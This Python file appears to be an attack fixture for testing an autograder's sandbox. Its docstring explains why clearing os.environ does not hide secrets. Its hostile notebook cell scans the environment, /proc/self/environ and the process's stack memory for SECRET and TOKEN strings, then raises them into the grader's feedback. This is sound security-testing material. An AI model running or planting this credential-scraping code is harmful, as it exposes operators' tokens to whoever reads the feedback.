"""Hunts for the grading machine's tokens and raises them into its own feedback.

Clearing os.environ is not enough: the strings a process was started with stay on its stack, which
the process can always read, so the attack scans the stack as well as os.environ and /proc.

It searches each block whole before splitting it (a few ms of CPU). Split and filtered string by string, the 132 KiB
stack took 0.06 s of CPU, near the 0.1 s call budget: with the machine's other CPU busy the same call needs up to
1.7 times the CPU time, so it was stopped instead of raising, and the result differed between a quiet run and a
loaded one (issue 51, item 5). A student's call that close to its budget still can (docs/architecture.md, "What
CPU budgets cannot promise")."""

HONEST = None  # a wrong-corpus entry holding this submission's honest work, if any
ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
    'causal_mask': "def causal_mask(T):\n"
                   "    import ctypes, os\n"
                   "    wanted = lambda s: b'SECRET' in s or b'TOKEN' in s\n"
                   "    scan = lambda blob: [s.decode(errors='replace') for s in blob.split(b'\\0') if wanted(s)] if wanted(blob) else []\n"
                   "    found = [k + '=' + v for k, v in os.environ.items() if wanted(k.encode())]\n"
                   "    for line in open('/proc/self/maps'):\n"
                   "        if line.rstrip().endswith('[stack]'):\n"
                   "            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
                   "            found += scan(ctypes.string_at(lo, hi - lo))\n"
                   "    try:\n"
                   "        found += scan(open('/proc/self/environ', 'rb').read())\n"
                   "    except OSError:\n"
                   "        pass\n"
                   "    raise RuntimeError('leaked: ' + repr(found))",
}
ATTACK_CELLS = [  # hostile cells inserted after the imports
]
TOUCHES = ()  # exercises the attack itself may break (self-inflicted)
